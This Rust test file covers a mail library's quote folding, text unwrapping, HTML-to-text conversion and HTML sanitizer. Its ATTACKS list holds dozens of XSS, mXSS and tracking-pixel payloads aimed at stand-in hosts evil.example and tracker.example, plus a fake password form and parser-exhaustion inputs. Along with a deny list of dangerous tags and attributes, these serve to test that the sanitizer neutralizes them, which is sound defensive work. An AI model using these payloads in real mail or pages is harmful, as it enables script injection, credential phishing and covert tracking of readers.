//! Views show a message and never change it: nothing of a body is lost when its quotations are folded, nothing in HTML that was
//! made safe runs or tells of its reader.

use postroom::view::{
    HtmlText, SafeHtml, Section, SectionKind, fold_html, fold_text, html_to_text, new_text,
    unwrapped,
};
use postroom::{Flowed, Message, MessageId};
use proptest::prelude::*;

use SectionKind::{Attribution, Forwarded, New, Quote, Signature};

fn kinds(sections: &[Section<'_>]) -> Vec<SectionKind> {
    sections.iter().map(|section| section.kind).collect()
}

fn whole(sections: &[Section<'_>]) -> String {
    sections.iter().map(|section| section.content).collect()
}

#[test]
fn wrapped_paragraphs_become_lines_again() {
    let text = |text: &str, delete_space| unwrapped(text, Flowed::new(delete_space));
    assert_eq!(text("a \nb \nc\nd\n", false), "a b c\nd\n");
    assert_eq!(text("日本 \r\n語\r\n", true), "日本語\n");
    assert_eq!(
        text("> a \n> b\n>> c \n> d\n", false),
        "> a b\n>> c \n> d\n"
    );
    assert_eq!(
        text(" >not quoted\n From here\n", false),
        ">not quoted\nFrom here\n"
    );
    // The line before a signature ends there, and the separator is no flowed line.
    assert_eq!(text("bye \n-- \nSupport\n", false), "bye \n-- \nSupport\n");
    assert_eq!(text("> -- \n> Support\n", false), "> -- \n> Support\n");
    assert_eq!(text("", false), "");
    assert_eq!(text("no end ", false), "no end ");
}

/// What people write, what their programs put below it, and what each part is.
const TEXTS: &[(&str, &str, &[SectionKind])] = &[
    (
        "Gmail",
        "Yes.\n\nOn Thu, Jan 1, 2026 at 9:00 AM Support Desk <\nsupport@desk.example> wrote:\n\n> Shall we?\n>\n> Support\n",
        &[New, Attribution, Quote],
    ),
    (
        "Apple",
        "Yes.\n\n> On 1 Jan 2026, at 09:00, Support wrote:\n> \n> Shall we?\n",
        &[New, Quote],
    ),
    (
        "Thunderbird, German",
        "Ja.\r\n\r\nAm 01.01.26 um 09:00 schrieb Support:\r\n> Sollen wir?\r\n",
        &[New, Attribution, Quote],
    ),
    (
        "French",
        "Oui.\n\nLe jeu. 1 janv. 2026 à 09:00, Support <support@desk.example> a écrit\u{a0}:\n\n> On y va ?\n",
        &[New, Attribution, Quote],
    ),
    (
        "Spanish",
        "Sí.\n\nEl jue, 1 ene 2026 a las 9:00, Support (<support@desk.example>) escribió:\n\n> ¿Vamos?\n",
        &[New, Attribution, Quote],
    ),
    (
        "Japanese",
        "はい。\n\n2026年1月1日(木) 9:00 Support <support@desk.example>:\n\n> どうですか\n",
        &[New, Attribution, Quote],
    ),
    (
        "Chinese",
        "好。\n\n在 2026年1月1日，Support 写道：\n> 可以吗？\n",
        &[New, Attribution, Quote],
    ),
    (
        "Turkish",
        "Evet.\n\nSupport şunları yazdı (1 Oca 2026 09:00):\n\n> Gidelim mi?\n",
        &[New, Attribution, Quote],
    ),
    (
        "Outlook",
        "Yes.\n\n-----Original Message-----\nFrom: Support <support@desk.example>\nSent: Thursday, January 1, 2026 9:00 AM\nTo: Reader\nSubject: Shall we\n\nShall we?\n",
        &[New, Attribution, Quote],
    ),
    (
        "Outlook, web",
        "Yes.\n________________________________\nFrom: Support\nSent: Thursday\nTo: Reader;\n  Team\nSubject: Shall we\n\nShall we?\n",
        &[New, Attribution, Quote],
    ),
    (
        "Outlook, German, no separator",
        "Ja.\n\nVon: Support\nGesendet: Donnerstag\nAn: Leser\nBetreff: Sollen wir\n\nSollen wir?\n",
        &[New, Attribution, Quote],
    ),
    (
        "a forward",
        "See below.\n\n---------- Forwarded message ---------\nFrom: Support\n\nShall we?\n",
        &[New, Forwarded],
    ),
    (
        "answers between",
        "> Shall we?\n\nYes.\n\n> When?\nAt nine.\n",
        &[Quote, New, Quote, New],
    ),
    (
        "a signature",
        "Yes.\n-- \nReader\nDesk 7\n\nOn 1 Jan 2026, Support wrote:\n> Shall we?\n",
        &[New, Signature, Attribution, Quote],
    ),
    (
        "a telephone",
        "Yes.\n\nSent from my telephone\n\nOn 1 Jan 2026, Support wrote:\n> Shall we?\n",
        &[New, Signature, Attribution, Quote],
    ),
    (
        "nothing quoted",
        "Dear all,\n\nplease note:\n\nFrom: here\nTo: there\n\n-- no signature\n-----\nThe meeting is at 9:00:\nbe there.\n",
        &[New],
    ),
    (
        "new text before a quote",
        "I disagree with this:\n> Shall we?\n",
        &[New, Quote],
    ),
    ("nothing at all", "", &[]),
];

#[test]
fn quotations_in_text_are_found_whoever_wrote_them() {
    for (name, text, expected) in TEXTS {
        let sections = fold_text(text);
        assert_eq!(kinds(&sections), *expected, "{name}");
        assert_eq!(whole(&sections), *text, "{name}");
    }
    let (_, gmail, _) = TEXTS[0];
    assert_eq!(new_text(&fold_text(gmail)), "Yes.\n\n");
    // What is nothing but a quotation is shown.
    assert_eq!(new_text(&fold_text("> Shall we?\n")), "> Shall we?\n");
    assert_eq!(
        new_text(&fold_text("> One\nand\n> two\nor three\n")),
        "and\nor three\n"
    );
}

const HTMLS: &[(&str, &str, &[SectionKind])] = &[
    (
        "Gmail",
        "<div dir=\"ltr\">Yes.</div><br><div class=\"gmail_quote gmail_quote_container\"><div dir=\"ltr\" class=\"gmail_attr\">On 1 Jan, Support wrote:<br></div><blockquote class=\"gmail_quote\">Shall we?</blockquote></div>\r\n",
        &[New, Quote],
    ),
    (
        "Gmail in Outlook",
        "<div>Yes.</div><div class=\"x_gmail_quote\">On 1 Jan<blockquote>Shall we?</blockquote></div></div>",
        &[New, Quote],
    ),
    (
        "Gmail, a forward",
        "<div>Look.</div><div class=\"gmail_quote\"><div class=\"gmail_attr\">---------- Forwarded message ---------<br></div>Shall we?</div>",
        &[New, Forwarded],
    ),
    (
        "Outlook, web",
        "<html><body><div>Yes.</div><div id=\"appendonsend\"></div><hr style=\"width:98%\"><div id=\"divRplyFwdMsg\"><b>From:</b> Support</div><div>Shall we?</div></body></html>",
        &[New, Quote],
    ),
    (
        "Outlook, web, from elsewhere",
        "<div>Yes.</div><hr><div id=\"x_divRplyFwdMsg\"><b>From:</b> Support</div><div>Shall we?</div>",
        &[New, Quote],
    ),
    (
        "Outlook",
        "<div class=WordSection1><p class=MsoNormal>Yes.</p><div><div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in'><p class=MsoNormal><b>From:</b> Support</p></div></div><p>Shall we?</p></div>",
        &[New, Quote],
    ),
    (
        "Apple",
        "<div>Yes.<br><blockquote type=\"cite\"><div>On 1 Jan 2026, at 09:00, Support wrote:</div>Shall we?</blockquote></div>",
        &[New, Quote],
    ),
    (
        "Thunderbird",
        "<p>Yes.</p><div class=\"moz-cite-prefix\">On 1/1/26, Support wrote:<br></div>\n<blockquote type=\"cite\" cite=\"mid:a@b\">Shall we?</blockquote><p>At nine.</p><pre class=\"moz-signature\">-- \nReader</pre>",
        &[New, Attribution, Quote, New, Signature],
    ),
    (
        "an unmarked last quotation",
        "<p>Yes.</p><blockquote>Shall we?</blockquote></body>",
        &[New, Quote],
    ),
    (
        "a quotation of the author's",
        "<p>As they say:</p><blockquote>Shall we?</blockquote><p>So we shall.</p>",
        &[New],
    ),
    (
        "words only in attributes and comments",
        "<p title=\"<div class='gmail_quote'>\">Yes.<!-- <div class=\"gmail_quote\"> --><script>'<div class=\"gmail_quote\">'</script></p>",
        &[New],
    ),
    (
        "never closed",
        "<div>Yes.<blockquote type=cite>Shall we?<b>",
        &[New, Quote],
    ),
    ("nothing at all", "", &[]),
];

#[test]
fn quotations_in_html_are_found_whoever_wrote_them() {
    for (name, html, expected) in HTMLS {
        let sections = fold_html(html);
        assert_eq!(kinds(&sections), *expected, "{name}");
        assert_eq!(whole(&sections), *html, "{name}");
        if expected.len() > 1 {
            // Each section is a whole of its own once it is made safe.
            let shown = SafeHtml::new().clean(sections[0].content).html;
            assert!(
                !shown.contains("Shall we") || name.contains("author"),
                "{name}: {shown}"
            );
        }
    }
}

/// Pieces that mean something to one of the readers here.
fn soup(pieces: &'static [&'static str]) -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(pieces), 0..40).prop_map(|pieces| pieces.concat())
}

const WORDS: &[&str] = &[
    "> ",
    "\n",
    "\r\n",
    " ",
    "On 1 Jan 2026, Support wrote:",
    "-- ",
    "--",
    "From: x",
    "Sent: x",
    "To: x",
    "Subject: x",
    "é",
    "写道：",
    "-----Original Message-----",
    "---- Forwarded ----",
    "____________________",
    "Sent from my telephone",
    "text",
    ":",
    "\u{a0}",
    "9:00",
];

const TAGS: &[&str] = &[
    "<div>",
    "</div>",
    "<div class=gmail_quote>",
    "<blockquote type='cite'>",
    "<blockquote>",
    "</blockquote>",
    "<hr>",
    "<div id=divRplyFwdMsg>",
    "<!--",
    "-->",
    "<b>",
    "</b>",
    "text",
    "é",
    "&nbsp;",
    "<",
    ">",
    "\"",
    "'",
    "=",
    "<style>",
    "</style>",
    "<p class=",
    "<table>",
    "<td>",
    "</table>",
    "<div class=\"moz-cite-prefix\">",
    "<pre class=moz-signature>",
    "</pre>",
    "<script>",
    "</body>",
    "<img src=cid:x>",
    "<svg>",
    "<a href=\"",
    "/",
    "<img src=https://tracker.example/x onerror=alert(1)>",
    "<form action=https://tracker.example>",
    "<title>",
    "</title>",
    "\0",
];

proptest! {
    #[test]
    fn folding_loses_nothing_of_any_text(text in prop_oneof![soup(WORDS), any::<String>()]) {
        prop_assert_eq!(whole(&fold_text(&text)), text);
    }

    #[test]
    fn folding_loses_nothing_of_any_html(html in prop_oneof![soup(TAGS), any::<String>()]) {
        prop_assert_eq!(whole(&fold_html(&html)), html);
    }

    #[test]
    fn unwrapping_loses_no_word(text in soup(WORDS)) {
        let words = |text: &str| text.replace(['>', ' ', '\n', '\r', '\u{a0}'], "");
        prop_assert_eq!(words(&unwrapped(&text, Flowed::new(false))), words(&text));
    }

    #[test]
    fn whatever_comes_is_inert(html in soup(TAGS)) {
        let safe = SafeHtml::new().clean(&html).html;
        assert_inert(&safe);
        // What is safe stays as it is, but for the order of attributes. A table can bring a link into another one, which HTML
        // does not have: read once more, they are apart.
        let again = SafeHtml::new().clean(&safe).html;
        assert_inert(&again);
        if safe.matches("<a ").count() < 2 {
            prop_assert_eq!(again.len(), safe.len(), "{}\n{}", safe, again);
        }
        let _ = html_to_text(&html, &HtmlText::new().with_width(40));
    }
}

/// Nothing in it runs, fetches or submits, as far as its tags tell.
fn assert_inert(html: &str) {
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let (tag, after) = after.split_once('>').unwrap_or((after, ""));
        rest = after;
        let name = tag
            .trim_start_matches('/')
            .split([' ', '/'])
            .next()
            .unwrap()
            .to_ascii_lowercase();
        for forbidden in [
            "script", "style", "iframe", "frame", "object", "embed", "form", "input", "button",
            "svg", "math", "link", "meta", "base", "body", "html", "audio", "video", "source",
            "picture", "textarea", "select", "template", "applet", "marquee", "bgsound", "area",
            "map",
        ] {
            assert_ne!(name, forbidden, "{html}");
        }
        let mut attributes = tag;
        while let Some((before, value)) = attributes.split_once("=\"") {
            let attribute = before.rsplit(' ').next().unwrap();
            let (value, after) = value.split_once('"').unwrap();
            attributes = after;
            let value = value.to_ascii_lowercase();
            assert!(!attribute.starts_with("on"), "{html}");
            match attribute {
                "href" => assert!(
                    ["https://", "http://", "mailto:", "tel:"]
                        .iter()
                        .any(|scheme| value.starts_with(scheme)),
                    "{html}"
                ),
                "src" => assert!(
                    value.starts_with("data:image/") && !value.contains("svg"),
                    "{html}"
                ),
                "style" => assert!(
                    ![
                        "url",
                        "expression",
                        "import",
                        "javascript",
                        "image-set",
                        "position",
                        "\\",
                        "behavior",
                        "var("
                    ]
                    .iter()
                    .any(|word| value.contains(word)),
                    "{html}"
                ),
                _ => assert!(
                    [
                        "class",
                        "id",
                        "name",
                        "srcset",
                        "background",
                        "poster",
                        "action",
                        "formaction",
                        "ping",
                        "srcdoc",
                        "data",
                        "xlink:href"
                    ]
                    .iter()
                    .all(|forbidden| attribute != *forbidden),
                    "{html}"
                ),
            }
        }
    }
    assert!(!html.contains("<!--"), "{html}");
}

/// Ways to run code in the page that shows a mail, or to learn that it is shown.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://tracker.example/1.gif\" width=1 height=1>",
    "<img src='//tracker.example/1.gif'>",
    "<img src=/1.gif><img src=1.gif><img src=''><img src='http:tracker.example/1.gif'>",
    "<img srcset='https://tracker.example/1.gif 2x' src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>",
    "<picture><source srcset=https://tracker.example/1.webp><img src=https://tracker.example/1.gif></picture>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html,<script>alert(1)</script>'>",
    "<img src=\"jav&#x09;ascript:alert(1)\"><img src=`javascript:alert(1)`>",
    "<input type=image src=https://tracker.example/1.gif>",
    "<body background=https://tracker.example/1.gif onload=alert(1)>text</body>",
    "<table background=https://tracker.example/1.gif><tr><td background=https://tracker.example/2.gif>x</td></tr></table>",
    "<div style=\"background-image:url(https://tracker.example/1.gif)\">x</div>",
    "<div style=\"background:#fff URL('https://tracker.example/1.gif')\">x</div>",
    "<div style=\"background:u\\72l(https://tracker.example/1.gif)\">x</div>",
    "<div style=\"background:ur/**/l(https://tracker.example/1.gif)\">x</div>",
    "<div style=\"background-image:image-set('https://tracker.example/1.gif' 1x)\">x</div>",
    "<div style=\"list-style:url(https://tracker.example/1.gif);cursor:url(https://tracker.example/2.cur),auto;content:url(x)\">x</div>",
    "<div style=\"border-image:url(x);mask:url(x);filter:url(x);shape-outside:url(x)\">x</div>",
    "<div style=\"width:expression(alert(1));behavior:url(x);-moz-binding:url(x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;margin-top:-500px\">x</div>",
    "<div style=\"color:red;background:var(--x);--x:url(https://tracker.example/1.gif)\">x</div>",
    "<div style=\"font-family:'a;background:url(https://tracker.example/1.gif)'\">x</div>",
    "<style>@import 'https://tracker.example/x.css'; body{background:url(https://tracker.example/1.gif)}</style>",
    "<link rel=stylesheet href=https://tracker.example/x.css><link rel=prefetch href=https://tracker.example/x><link rel=dns-prefetch href=//x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
    "<a href='javascript:alert(1)'>x</a><a href=' &#1;javascript:alert(1)'>x</a><a href='java\nscript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,x'>x</a><a href='file:///etc/passwd'>x</a><a href='#top'>x</a><a href='/logout'>x</a>",
    "<a href=https://shop.example ping=https://tracker.example/ping onclick=alert(1)>x</a>",
    "<form action=https://evil.example><input name=password><button formaction=https://evil.example>Sign in</button></form>",
    "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe><frameset><frame src=x></frameset>",
    "<object data=https://evil.example></object><embed src=https://evil.example><applet code=x></applet>",
    "<video src=https://tracker.example/1 poster=https://tracker.example/2 autoplay></video><audio src=https://tracker.example/3></audio><bgsound src=x>",
    "<svg onload=alert(1)><image href=https://tracker.example/1.gif /><use href=https://evil.example#x /><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp>",
    "<!--[if mso]><img src=https://tracker.example/1.gif><![endif]--><!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    "<template><img src=x onerror=alert(1)></template><dialog open>x</dialog><details open ontoggle=alert(1)><summary>x</summary></details>",
    "<img name=body id=location><a id=x name=x href=https://shop.example>x</a><div id=app class='modal host-button'>x</div>",
    "<p title='\"><script>alert(1)</script>'>x</p><p title=`x` style='color:red\"onmouseover=alert(1)'>x</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt><<script>alert(1)//<</script>",
    "<img \0src=x onerror\0=alert(1)><img/src=x/onerror=alert(1)><img\nsrc=x\nonerror=alert(1)>",
    "<isindex action=https://evil.example><keygen><menuitem icon=https://tracker.example/1.gif><marquee onstart=alert(1)>x</marquee>",
    "<area href=https://evil.example><map name=m><area shape=default href='javascript:alert(1)'></map><img usemap=#m src=cid:x>",
    "<img src='cid:x' lowsrc=https://tracker.example/1.gif dynsrc=https://tracker.example/2 longdesc=https://tracker.example/3>",
    "<v:image src=https://tracker.example/1.gif /><o:p>x</o:p><xml><i src=https://tracker.example/2></i></xml><?xml-stylesheet href=x?>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite='https://tracker.example/1'>x</q><del cite=x>x</del>",
];

#[test]
fn no_attack_or_tracker_comes_through() {
    let text = ATTACKS.concat();
    for html in ATTACKS.iter().copied().chain([text.as_str()]) {
        let safe = SafeHtml::new().clean(html);
        assert_inert(&safe.html);
        for host in ["tracker.example", "evil.example", "alert(1)\"", "onerror="] {
            // As text they harm nobody; in a tag they are not.
            for tag in safe
                .html
                .split('<')
                .skip(1)
                .filter_map(|rest| rest.split_once('>'))
            {
                assert!(!tag.0.contains(host), "{html}\n{}", safe.html);
            }
        }
    }
}

#[test]
fn what_mail_is_made_of_stays() {
    let html = "<html><head><title>No</title><style>p{color:red}</style></head><body bgcolor=\"#fff\"><table width=\"600\" cellpadding=\"0\" bgcolor=\"#eee\">\
        <tr><td align=\"center\" style=\"PADDING: 10px 0; font: 12px/1.5 'Segoe UI', Arial; color: rgb(1, 2, 3) !important\"><h1 align=left>Ten things</h1>\
        <p dir=rtl lang=ar><font color=red face=Arial>x</font> <b>bold</b></p><ol start=3><li>one</li></ol>\
        <a href=\"https://news.example/1?a=1&amp;b=2\" title=\"t\">link</a> <a href=\"mailto:support@desk.example?subject=x\">write</a></td></tr></table></body></html>";
    let safe = SafeHtml::new().clean(html).html;
    for kept in [
        "width=\"600\"",
        "bgcolor=\"#eee\"",
        "padding: 10px 0",
        "font: 12px/1.5 'Segoe UI', Arial",
        "color: rgb(1, 2, 3) !important",
        "<h1 align=\"left\">Ten things</h1>",
        "dir=\"rtl\"",
        "<font color=\"red\" face=\"Arial\">x</font>",
        "start=\"3\"",
        "href=\"https://news.example/1?a=1&amp;b=2\"",
        "rel=\"noopener noreferrer nofollow\"",
        "target=\"_blank\"",
        "href=\"mailto:support@desk.example?subject=x\"",
    ] {
        assert!(safe.contains(kept), "{kept} is missing: {safe}");
    }
    assert!(!safe.contains("No") && !safe.contains("p{color"), "{safe}");
}

#[test]
fn pictures_are_shown_from_where_the_host_says() {
    let html = "<img src=\"cid:Logo%40studio.example\" alt=logo><img src=\"CID:other@studio.example\"><img src=\"cid:gone\"><img src=\"https://shop.example/a.png\">";
    let safe = SafeHtml::new()
        .with_inline_image("<logo@studio.example>", "image/png", b"\x89PNG")
        .with_inline_image("gone", "image/svg+xml", b"<svg/>")
        .with_inline_images(|id| {
            (id == "other@studio.example").then(|| "/mail/7/other?a=1&b=\"2".to_owned())
        })
        .clean(html);
    assert!(
        safe.html.contains("src=\"data:image/png;base64,iVBORw==\""),
        "{}",
        safe.html
    );
    assert!(
        safe.html
            .contains("src=\"/mail/7/other?a=1&amp;b=&quot;2\""),
        "{}",
        safe.html
    );
    assert_eq!(
        safe.missing_images.into_iter().collect::<Vec<_>>(),
        ["gone"]
    );
    assert_eq!(safe.blocked_images, 1);

    let safe = SafeHtml::new().with_remote_images(true).clean(html);
    assert!(
        safe.html.contains("src=\"https://shop.example/a.png\""),
        "{}",
        safe.html
    );
    assert!(
        safe.html.contains("referrerpolicy=\"no-referrer\""),
        "{}",
        safe.html
    );
    assert_eq!(safe.blocked_images, 0);
    // Only where pictures belong.
    let safe = SafeHtml::new()
        .with_remote_images(true)
        .clean("<p style='background:url(https://shop.example/a.png)'>x");
    assert!(!safe.html.contains("shop.example"), "{}", safe.html);
}

#[test]
fn html_becomes_text_that_can_be_read() {
    let html = "<html><head><title>No</title><style>x{}</style></head><body><h1>Ten things</h1><table><tr><td>Left</td><td>Right</td></tr></table>\
        <p>One<br>two &amp; <b>three</b> &ndash; <a href=\"https://shop.example/track?id=1\">here</a>.</p><ul><li>first</li><li>second</li></ul>\
        <blockquote><p>quoted</p></blockquote><img src=x alt=\"A picture\"><img src=y alt=\"\"><script>no()</script></body></html>";
    let text = html_to_text(html, &HtmlText::new());
    assert_eq!(
        text,
        "Ten things\n\nLeft\nRight\n\nOne\ntwo & three – here <https://shop.example/track?id=1>.\n* first\n* second\n\n> quoted\n\n[A picture]\n"
    );
    assert!(!html_to_text(html, &HtmlText::new().with_links(false)).contains("https"));
    let narrow = html_to_text(&"word ".repeat(40), &HtmlText::new().with_width(30));
    assert!(
        narrow.lines().count() > 5 && narrow.lines().all(|line| line.len() <= 30),
        "{narrow}"
    );
}

#[test]
fn the_text_of_a_message_is_what_it_has() {
    let mut message = Message::new(MessageId::new("1"));
    assert_eq!(message.text_view(), None);
    message.body.html = Some("<p>Hello</p>".to_owned());
    assert_eq!(message.text_view().as_deref(), Some("Hello\n"));
    message.body.text = Some(" \r\n".to_owned());
    assert_eq!(message.text_view().as_deref(), Some("Hello\n"));
    message.body.text = Some("Hello \nthere\n".to_owned());
    assert_eq!(message.text_view().as_deref(), Some("Hello \nthere\n"));
    message.body.flowed = Some(Flowed::new(false));
    assert_eq!(message.text_view().as_deref(), Some("Hello there\n"));
}

/// Without a guard each of these is minutes of a processor, or gigabytes.
#[test]
fn html_made_to_exhaust_its_reader_is_shown_as_text() {
    let many = |piece: &str| format!("{}visible{}", piece.repeat(20_000), "</div>".repeat(10));
    let formatting: String = (0..20_000)
        .map(|id| format!("<div><b title={id}></div>"))
        .collect();
    for html in [
        many("<div>"),
        many("<blockquote><p>"),
        many("<ul><li>"),
        many("<table><tr><td>"),
        many("<div><marquee></div></marquee>"),
        format!("{}visible", "<b><div></b>".repeat(20_000)),
        format!("{formatting}visible"),
    ] {
        let safe = SafeHtml::new().clean(&html).html;
        let start: String = html.chars().take(40).collect();
        assert!(
            safe.contains("visible") && safe.len() < 1_000_000,
            "{start}: {}",
            safe.len()
        );
        let text = html_to_text(&html, &HtmlText::new());
        assert!(
            text.contains("visible") && text.len() < 1_000_000,
            "{start}: {}",
            text.len()
        );
        assert_eq!(whole(&fold_html(&html)), html);
    }
    // Where readers differ in what is text, none is fooled into working long, though it may show nothing.
    for html in [
        many("<noscript><div>"),
        format!("<style><a b=\"</style><svg><title>{}", many("<div>")),
        format!("<noscript><style></noscript>{}", many("<div>")),
    ] {
        assert!(SafeHtml::new().clean(&html).html.len() < 1_000_000);
        assert!(html_to_text(&html, &HtmlText::new()).len() < 1_000_000);
    }
    // What only looks so is not touched: a long page, and tables in tables.
    let long = "<div><p>x<font color=red>y</font><ul><li>a<li>b</ul></div>".repeat(2_000);
    assert!(SafeHtml::new().clean(&long).html.contains("<font"));
    let tables = format!(
        "{}x{}",
        "<table><tr><td>".repeat(40),
        "</td></tr></table>".repeat(40)
    );
    assert!(SafeHtml::new().clean(&tables).html.contains("<table"));
}
